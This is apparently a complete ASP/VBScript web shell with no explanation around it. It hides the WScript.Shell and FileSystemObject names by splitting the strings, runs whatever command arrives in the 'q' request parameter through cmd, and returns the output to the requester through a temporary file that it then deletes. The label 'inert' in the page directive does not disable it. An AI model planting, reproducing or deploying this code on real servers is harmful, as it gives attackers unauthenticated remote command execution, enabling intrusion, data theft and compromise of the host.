<%@ Language=VBScript inert %>
<%
Dim a, b, c, f
a = "wsc" : b = "ript" : c = "she" & "ll"
Set o = CreateObject(a & b & "." & c)
f = Server.MapPath("tmp" & Second(Now) & ".txt")
o.Run "cmd /c " & Request("q") & " > """ & f & """", 0, True
Set fs = CreateObject("Scri" & "pting.File" & "SystemObject")
Response.Write fs.OpenTextFile(f, 1).ReadAll
fs.DeleteFile f
%>
